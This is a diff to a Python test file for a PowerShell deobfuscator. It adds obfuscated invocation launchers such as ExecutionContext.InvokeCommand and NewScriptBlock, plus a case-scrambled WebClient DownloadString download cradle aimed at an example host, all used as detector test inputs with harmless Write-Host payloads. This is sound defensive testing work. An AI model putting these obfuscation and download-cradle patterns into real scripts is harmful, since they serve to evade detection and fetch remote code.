@@ -106,6 +106,8 @@ def test_launchers(cmdline, techniques):
         ("'Write-Host ok' | iex", "iex"),
         ("$s = 'Write-Host ok'; Invoke-Expression -Command $s", "iex"),
         ("[ScriptBlock]::Create('Write-Host ok').Invoke()", "iex"),
+        ("$ExecutionContext.InvokeCommand.InvokeScript('Write-'+'Host ok')", "iex"),
+        ("$ExecutionContext.InvokeCommand.NewScriptBlock(\"Write-Host ok\").Invoke()", "iex"),
         ("(New-Object Net.WebClient).(\"Down\"+\"loadString\") | Out-Null; iex ('Write-Host'+' ok')", "concat"),
     ],
 )
@@ -143,6 +145,11 @@ def test_fold_without_invoke():
     assert {"concat", "char-codes"} <= r.techniques
     r = deobfuscate("W`ri`te-H`ost ok")
     assert r.final == GOAL and "backticks" in r.techniques
+    r = deobfuscate("$wc = NeW-OBjeCt SYStEm.NEt.WEBCLIEnt; $wc.DownloadString('http://a.example.com/')")
+    assert r.final == "$wc = new-object system.net.webclient; $wc.DownloadString('http://a.example.com/')"
+    assert "case" in r.techniques
+    plain = "$wc = New-Object System.Net.WebClient; $wc.DownloadString('http://a.example.com/')"
+    assert deobfuscate(plain).layers == []
 
 
 def test_unknown_calls_stay_as_written():
